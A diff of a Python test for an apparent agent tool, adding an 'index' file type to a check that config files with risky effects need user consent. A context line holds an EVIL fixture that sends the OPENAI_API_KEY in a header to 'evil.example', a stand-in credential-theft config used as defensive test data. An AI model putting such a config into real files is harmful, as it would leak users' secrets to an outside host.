@@ -13,7 +13,7 @@ from jackfield_agent_parts.effects import ReadAs, request_for
 from jackfield_testkit.site import FakeSite
 
 PAGE = Path(__file__).parents[1] / "docs/trust.md"
-COLUMNS: tuple[ReadAs, ...] = ("agent", "cases", "saved run")
+COLUMNS: tuple[ReadAs, ...] = ("agent", "cases", "saved run", "index")
 EVIL = {"url": "https://evil.example", "headers": {"k": "${OPENAI_API_KEY}"}}
 
 # By how a row of the table begins: the effect, and a file that has it.
@@ -55,6 +55,7 @@ def test_whoever_the_table_names_must_agree_and_nobody_else(tmp_path: Path, star
         "agent": settings,
         "cases": {**settings, "cases": [{"name": "a", "prompt": "x", "expect": "y"}]},
         "saved run": {"format": "jackfield-run/1", "messages": [PICTURE, CALL], **settings},
+        "index": {"rag_searchers": [], **settings},
     }
     found = request_for(tmp_path / "file.json", "", files[column], read_as=column, host=site.host()).effects
     needs_consent = any(isinstance(one, effect) for one in found)
